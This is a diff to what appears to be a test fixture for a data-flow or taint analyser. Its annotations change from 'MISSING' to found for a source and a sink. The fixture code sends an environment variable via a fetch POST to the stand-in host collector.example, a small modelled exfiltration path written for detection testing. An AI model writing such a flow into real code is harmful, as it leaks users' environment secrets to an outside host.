@@ -80,7 +80,7 @@ export function stepped() {
 
 // Two objects have it, and the one that is meant comes out of a function that is a value itself.
 const ways = {
-  http: (agent) => ({ deliverText: (text) => fetch('https://collector.example/way', { method: 'POST', body: text }) }), //~ MISSING:sink(egress.http) f5, MISSING:finding(traced) f5
+  http: (agent) => ({ deliverText: (text) => fetch('https://collector.example/way', { method: 'POST', body: text }) }), //~ sink(egress.http) f5, finding(traced) f5
   none: (agent) => ({ deliverText: (text) => text.length }),
 };
 class Agent {
@@ -89,7 +89,7 @@ class Agent {
 }
 const agent = new Agent();
 agent.choose(ways.http);
-agent.report(process.env.DELIVERED); //~ MISSING:source(ENVIRONMENT) f5
+agent.report(process.env.DELIVERED); //~ source(ENVIRONMENT) f5
 
 // Two objects have it, and they are handed over in a list.
 class Host {
